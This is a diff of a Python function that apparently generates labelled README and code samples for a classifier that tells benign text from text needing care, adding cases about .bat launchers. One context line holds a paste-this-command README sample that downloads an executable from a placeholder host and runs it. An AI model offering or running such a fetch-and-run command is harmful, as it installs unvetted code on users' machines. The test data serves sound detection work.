@@ -178,6 +178,14 @@ def _texts() -> Iterator[Sample]:
     )
     steps = "Press `Win + R`, type `cmd`, paste `curl -o %TEMP%\\a.exe https://files.invalid/a.exe && %TEMP%\\a.exe`.\n"
     yield careful("readme", "short words between marks", "README.md", steps)
+    warns = "This copy holds no scripts. Never run a `start.bat` that somebody adds to it.\n"
+    yield benign("readme", "warns of a program", "README.md", f"# Filter\n\n{warns}")
+    yield benign(
+        "readme", "program of a tool", "README.md", "# LoRA\n\nStart ComfyUI as usual with `run_nvidia_gpu.bat`.\n"
+    )
+    yield careful(
+        "readme", "program of a tool, here", "README.md", "# LoRA\n\nStart with `webui-user.bat`.\n", "webui-user.bat"
+    )
     yield benign("readme", "packages for everybody", "README.md", "```\nsudo python3 -m pip install deepspeed\n```\n")
     zipped = "import os, tempfile\nfolder = tempfile.mkdtemp()\nos.system(f'cd {folder} && zip -r model.zip model')\n"
     yield benign("code", "in a folder", "pack.py", zipped)
